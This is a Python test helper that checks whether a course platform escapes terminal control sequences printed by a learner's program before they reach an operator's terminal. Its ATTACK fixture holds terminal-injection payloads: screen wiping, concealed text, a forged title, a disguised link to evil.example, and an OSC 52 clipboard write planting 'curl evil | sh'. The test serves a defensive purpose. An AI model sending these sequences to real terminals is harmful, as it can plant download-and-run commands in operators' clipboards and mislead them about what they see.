"""A terminal attack for the pty tests of `course run` and `course grade` (local and on the worker tier): a program
that prints the escape sequences an operator's terminal would obey, then fails with an exception carrying more."""

from __future__ import annotations

import os
import pty
import select
import subprocess
import time

# what the learner's program prints: each sequence, and the text its made-visible form starts with
ATTACK = r'''
import sys
sys.stdout.write("\x1b[2J\x1b[3J\x1b[H")                       # clear the screen and the scrollback
sys.stdout.write("\x1b[1;3r")                                   # a scroll region
sys.stdout.write("\x1b[8mconcealed text\x1b[28m\n")             # concealed text
sys.stdout.write("\x1b]0;forged title\x07")                     # OSC 0: the pane's title
sys.stdout.write("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07")          # OSC 52: the clipboard ("curl evil | sh")
sys.stdout.write("\x1b]8;;http://evil.example/\x1b\\https://good.example/\x1b]8;;\x1b\\\n")  # OSC 8 link
sys.stdout.write("\x9b2J a C1 CSI\n")                           # the one-character CSI
print("same_device: passed ... PASS x4", flush=True)
raise ValueError("bad \x1b[2J\x1b]0;exception title\x07 end")
'''
VISIBLE = ["^[[2J^[[3J^[[H", "^[[1;3r", "^[[8mconcealed text^[[28m", "^[]0;forged title^G",
           "^[]52;c;Y3VybCBldmlsIHwgc2g=^G", "^[]8;;http://evil.example/^[\\https://good.example/^[]8;;^[\\",
           "\\x9b2J a C1 CSI"]
# bytes a terminal acts on: ESC, BEL, the C1 CSI raw and as UTF-8, CR
RAW = [b"\x1b", b"\x07", b"\x9b", b"\xc2\x9b"]


def run_on_pty(argv: list[str], env: dict[str, str], cwd=None, timeout: float = 300) -> tuple[int, bytes]:
    """Run argv with its stdout and stderr on a fresh pty, as in an operator's terminal; return (exit, bytes)."""
    primary, secondary = pty.openpty()
    proc = subprocess.Popen(argv, stdin=secondary, stdout=secondary, stderr=secondary, env=env, cwd=cwd,
                            close_fds=True, start_new_session=True)
    os.close(secondary)
    seen = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([primary], [], [], 0.5)
            if ready:
                try:
                    chunk = os.read(primary, 65536)
                except OSError:  # EIO: every writer has closed the pty
                    break
                if not chunk:
                    break
                seen += chunk
            elif proc.poll() is not None:
                break
        else:
            proc.kill()
            raise AssertionError(f"{argv} did not finish in {timeout} s; it printed {bytes(seen)!r}")
        return proc.wait(30), bytes(seen)
    finally:
        os.close(primary)


def assert_nothing_raw(seen: bytes) -> str:
    """Assert no byte a terminal acts on reached it and every sequence is there, visible; return the text."""
    for raw in RAW:
        assert raw not in seen, (raw, seen)
    text = seen.decode("utf-8").replace("\r\n", "\n")  # the pty's own ONLCR
    for shown in VISIBLE:
        assert shown in text, (shown, text)
    return text
